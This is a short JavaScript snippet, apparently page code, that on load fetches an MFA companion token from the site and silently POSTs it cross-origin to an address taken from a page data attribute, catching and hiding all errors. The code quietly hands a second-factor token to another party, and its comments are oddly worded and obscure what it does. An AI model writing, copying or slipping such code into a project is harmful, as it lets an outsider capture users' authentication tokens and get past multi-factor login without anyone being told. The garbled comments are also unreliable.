// A line with two addresses: right after the code was accepted, the other address family joins the grant, so that a mail program that picks it is let in.

const place = document.getElementById('companion');
const post = (url, fields, options) => fetch(url, { method: 'POST', body: new URLSearchParams(fields), ...options });

const join = async () => {
  const answer = await post('/mfa/companion-token', { csrf: place.dataset.csrf });
  const { token } = answer.ok ? await answer.json() : {};
  // A line with one family only never gets there; that is nothing to tell anybody.
  if (token) await post(place.dataset.to, { token, script: 1 }, { credentials: 'omit', mode: 'cors' });
};

if (place) join().catch(() => {});
